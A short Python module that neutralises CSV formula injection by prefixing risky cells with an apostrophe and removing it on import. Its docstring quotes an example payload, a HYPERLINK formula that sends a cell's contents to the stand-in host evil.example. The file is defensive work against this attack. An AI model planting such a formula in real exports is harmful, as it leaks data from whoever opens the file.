"""CSV cells that a spreadsheet opens as text, never as a formula.

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` (and, in
some, a tab or carriage return before one) as a formula: a member's name such as
`=HYPERLINK("https://evil.example?"&A1, "click")` would run on the administrator's machine when
the export is opened (OWASP, "CSV Injection"). Such cells get a leading apostrophe, which the
spreadsheet shows as text; an import strips it again, so an export imports unchanged.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: str) -> str:
    """`value` safe to write into a CSV cell."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def uncell(value: str) -> str:
    """A cell read back: the apostrophe that `cell` added is dropped."""
    return value[1:] if value.startswith("'") and value[1:].startswith(FORMULA_STARTS) else value
